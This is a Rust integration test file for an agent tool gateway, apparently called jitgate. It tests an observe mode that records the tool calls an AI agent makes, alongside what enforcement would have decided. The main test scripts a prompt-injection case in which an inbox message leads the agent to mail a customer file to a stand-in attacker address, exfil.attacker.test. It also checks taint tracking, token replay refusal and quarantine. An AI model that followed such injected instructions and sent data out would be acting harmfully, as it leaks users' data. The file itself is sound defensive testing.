//! Issue 28, part 3: observe first, then enforce. An agent in observe mode,
//! driven by the official Python MCP client as an agent that knows nothing
//! of jitgate (and by the official TypeScript SDK client in both eras),
//! calls its tools directly: each call passes through, is
//! recorded with the decision enforcement would have made, feeds the
//! baseline, and shows in traces and the report; nothing is minted, and an
//! enforcing agent is not weakened.

mod common;

use std::process::Command;

use common::*;
use serde_json::{Value, json};

/// The platform guide's observe-mode agent file, as written there.
fn watcher() -> String {
    let guide = std::fs::read_to_string(repo_root().join("docs/platform.md")).unwrap();
    let section = guide.split("### Observe first, then enforce").nth(1).expect("the guide's section");
    section.split("```toml\n").nth(1).and_then(|b| b.split("```").next()).expect("its agent file").to_owned()
}

/// The guide's report command, run as written (with this deployment's config).
fn guide_report(cfg: &str) -> (Option<i32>, String, String) {
    let guide = std::fs::read_to_string(repo_root().join("docs/platform.md")).unwrap();
    let section = guide.split("### Observe first, then enforce").nth(1).expect("the guide's section");
    let line = section.split("```sh\n").nth(1).and_then(|b| b.split("```").next()).expect("its command").trim().to_owned();
    let args: Vec<String> = line.split_whitespace().map(|w| if w == "gateway.toml" { cfg.to_owned() } else { w.to_owned() }).collect();
    assert_eq!(args[0], "jitgate", "{line}");
    let refs: Vec<&str> = args[1..].iter().map(String::as_str).collect();
    jitgate(&refs)
}

fn observe_flow(url: &str, token: &str, calls: Value) -> Value {
    let out = Command::new(repo_root().join(".venv/bin/python"))
        .arg(repo_root().join("tests/support/python/observe_flow.py"))
        .args([url, token, &calls.to_string()])
        .output()
        .unwrap();
    assert!(out.status.success(), "the Python client failed:\n{}", String::from_utf8_lossy(&out.stderr));
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stdout)))
}

fn records(dep: &Deployment, kind: &str) -> Vec<Value> {
    let (_, export, _) = jitgate(&["audit", "export", "--config", dep.config.to_str().unwrap()]);
    export.lines().filter_map(|l| serde_json::from_str::<Value>(l).ok()).filter(|v| v["kind"] == kind).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_observed_agents_plain_calls_pass_and_are_judged_as_enforcement_would() {
    let dep = Deployment::new(&Setup { policies: quickstart_policies(), agents: vec![("watcher.toml".into(), watcher())], ..Setup::default() });
    let gw = Gateway::start(&dep);
    gw.wait_server("workspace", "ready").await;
    let cfg = dep.config.to_str().unwrap();

    // The agent reads a note and its inbox, then does what a message in the
    // inbox tells it: mail the customer file to an attacker's address.
    let calls = json!([
        ["workspace__read_note", {"name": "q3-plan.md"}],
        ["workspace__read_inbox", {}],
        ["workspace__send_message", {"to": "audit@exfil.attacker.test", "subject": "audit", "body": "customer file"}],
        ["workspace__delete_note", {"name": "q3-plan.md"}],
    ]);
    let ran = observe_flow(&gw.url, &dep.mint("watcher"), calls);
    let steps = ran["calls"].as_array().unwrap();
    assert_eq!(steps[0]["is_error"], false, "{ran}");
    assert!(steps[0]["text"].as_str().unwrap().contains("Ship the billing export"), "the plain call passed through: {ran}");
    assert_eq!(steps[1]["is_error"], false, "{ran}");
    // Observe mode passes calls; it does not judge them for the agent.
    assert_eq!(steps[2]["is_error"], false, "{ran}");
    assert!(sent_to(&dep).contains(&"audit@exfil.attacker.test".to_owned()), "observed calls really run");
    // What the agent file does not allow stays refused.
    assert_eq!(steps[3]["code"], "tool_not_allowed", "{ran}");

    // Each call is on record as observed, with what enforcement would have done.
    let observed = records(&dep, "call.observed");
    assert_eq!(observed.len(), 3, "{observed:#?}");
    assert!(observed.iter().all(|r| r["data"]["mode"] == "observe"), "visible on every record: {observed:#?}");
    let would: Vec<&str> = observed.iter().map(|r| r["data"]["would"].as_str().unwrap()).collect();
    assert_eq!(&would[..2], &["allow", "allow"], "{observed:#?}");
    assert_ne!(would[2], "allow", "enforcement would have stopped the send: {observed:#?}");
    // The watcher's file vouches for its client: its user would have been asked.
    assert_eq!((would[2], observed[2]["data"]["policy"].as_str()), ("end_user_question", Some("untrusted-data-into-sinks-needs-the-end-user")));
    let send = &observed[2]["data"];
    assert_eq!(send["taint"]["tainted"], true, "the address came from the inbox: {send}");
    assert_eq!(send["taint"]["sources"][0]["tool"], "workspace__read_inbox", "{send}");
    assert!(send["policy"].is_string(), "the rule that would have held it: {send}");
    // Nothing was minted: no token, no intent decision, for this agent.
    let intents = records(&dep, "intent");
    assert!(intents.iter().all(|r| r["agent"] != "spiffe://jitgate.local/agent/watcher"), "{intents:#?}");

    // The report: by rule, tool and agent.
    let (code, out, err) = jitgate(&["observe", "report", "--json", "--config", cfg]);
    assert_eq!(code, Some(0), "{err}");
    let report: Value = serde_json::from_str(&out).unwrap();
    assert_eq!((report["total"]["observed"].as_u64(), report["total"]["changed"].as_u64()), (Some(3), Some(1)), "{report}");
    assert_eq!(report["by_rule"][0]["policy"], send["policy"], "{report}");
    assert_eq!(report["by_tool"]["workspace__send_message"]["changed"], 1, "{report}");
    assert_eq!(report["by_agent"]["watcher"]["observed"], 3, "{report}");
    let (code, text, _) = guide_report(cfg);
    assert_eq!(code, Some(0));
    assert!(text.contains("3 observed call(s)") && text.contains("enforcement would have changed 1"), "{text}");

    // Traces show the calls, marked observed, with their results.
    let (code, list, err) = jitgate(&["trace", "--agent", "watcher", "--json", "--config", cfg]);
    assert_eq!(code, Some(0), "{err}");
    let task = observed[0]["task"].as_str().unwrap().to_owned();
    assert!(list.contains(&task), "{list}");
    let (code, tree, err) = jitgate(&["trace", &task, "--json", "--config", cfg]);
    assert_eq!(code, Some(0), "{err}");
    let tree: Value = serde_json::from_str(&tree).unwrap();
    let requests = tree["phases"][0]["requests"].as_array().unwrap();
    assert_eq!(requests.len(), 3, "{tree}");
    assert!(requests[2]["decision"].as_str().unwrap().starts_with("observed (not enforced): would "), "{tree}");
    assert_eq!(requests[0]["call"]["status"], "ok", "{tree}");

    // The reviewers' pages show them too, marked observed.
    let base = gw.url.trim_end_matches("/mcp").to_owned();
    let reviewer = dep.mint_reviewer("rita@example.org");
    let http = reqwest::Client::new();
    let page = http.get(format!("{base}/ui/tasks/{task}")).header("authorization", format!("Bearer {reviewer}")).send().await.unwrap();
    assert_eq!(page.status().as_u16(), 200);
    let html = page.text().await.unwrap();
    assert!(html.contains("observed (not enforced): would "), "{html}");

    // The baseline learns from what was observed.
    let (code, learned, err) = jitgate(&["baseline", "learn", "--agent", "watcher", "--out", "-", "--config", cfg]);
    assert_eq!(code, Some(0), "{err}");
    assert!(learned.contains("workspace__read_inbox") && learned.contains("workspace__send_message"), "{learned}");

    // An enforcing agent is not weakened: its plain call is refused, and
    // the observed agent's token-carrying protocol still works as ever.
    let triage = gw.connect(&dep.mint("triage")).await;
    let r = raw_call(&triage, "workspace__read_note", json!({"name": "q3-plan.md"})).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("capability_required"));
    let watcher = gw.connect(&dep.mint("watcher")).await;
    let task = begin(&watcher, json!([{"name": "read", "tools": ["workspace__read_note"]}])).await.unwrap();
    let token = request(&watcher, &task, "workspace__read_note", json!({"name": "q3-plan.md"})).await.unwrap();
    let r = call_with_token(&watcher, "workspace__read_note", json!({"name": "q3-plan.md"}), &token).await.unwrap();
    assert_eq!(r.is_error, Some(false), "{}", text_of(&r));
    let r = call_with_token(&watcher, "workspace__read_note", json!({"name": "q3-plan.md"}), &token).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("token_replayed"), "a replayed token is refused, not observed");

    // The official TypeScript SDK client, in both eras: the same pass-through.
    for mode in ["default", "auto"] {
        let out = Command::new("node")
            .arg(repo_root().join("tests/support/node/observe_flow.mjs"))
            .args([mode, gw.url.as_str(), &dep.mint("watcher"), &json!([["workspace__read_note", {"name": "q3-plan.md"}]]).to_string()])
            .output()
            .unwrap();
        assert!(out.status.success(), "the TypeScript client failed ({mode}):\n{}", String::from_utf8_lossy(&out.stderr));
        let ran: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(ran["calls"][0]["is_error"], false, "{mode}: {ran}");
        assert!(ran["calls"][0]["text"].as_str().unwrap().contains("Ship the billing export"), "{mode}: {ran}");
    }
    assert_eq!(records(&dep, "call.observed").len(), 5, "each era's call is observed");

    // The observation task never serves the just-in-time protocol: it is no
    // plan any BeginTask policy judged.
    let observed_task = observed[0]["task"].as_str().unwrap();
    let r = raw_call(&watcher, "jit_request", json!({"task": observed_task, "tool": "workspace__send_message", "arguments": {"to": "a@example.org", "subject": "s", "body": "b"}, "purpose": "reuse the observed plan"})).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("task_inactive"), "{}", text_of(&r));
    let r = raw_call(&watcher, "jit_call", json!({"task": observed_task, "tool": "workspace__read_note", "arguments": {"name": "q3-plan.md"}, "purpose": "reuse"})).await.unwrap();
    assert_eq!(refusal_code(&r).as_deref(), Some("task_inactive"), "{}", text_of(&r));

    // A quarantine holds for an observed agent too.
    let (code, _, err) = jitgate(&["agents", "quarantine", "watcher", "--reason", "test", "--config", cfg]);
    assert_eq!(code, Some(0), "{err}");
    let ran = observe_flow(&gw.url, &dep.mint("watcher"), json!([["workspace__read_note", {"name": "q3-plan.md"}]]));
    assert_eq!(ran["calls"][0]["code"], "agent_quarantined", "{ran}");
}

/// `observe_servers` without observe mode is a mistake the loader names.
#[test]
fn observe_servers_needs_observe_mode() {
    let dep = Deployment::new(&Setup {
        agents: vec![("half.toml".into(), "name = \"half\"\nid = \"spiffe://jitgate.local/agent/half\"\nobserve_servers = [\"workspace\"]\nallowed_tools = [\"workspace__read_note\"]\n".into())],
        ..Setup::default()
    });
    let (code, _, err) = jitgate(&["check", "--offline", "--config", dep.config.to_str().unwrap()]);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("observe_servers") && err.contains("mode = \"observe\""), "{err}");
}
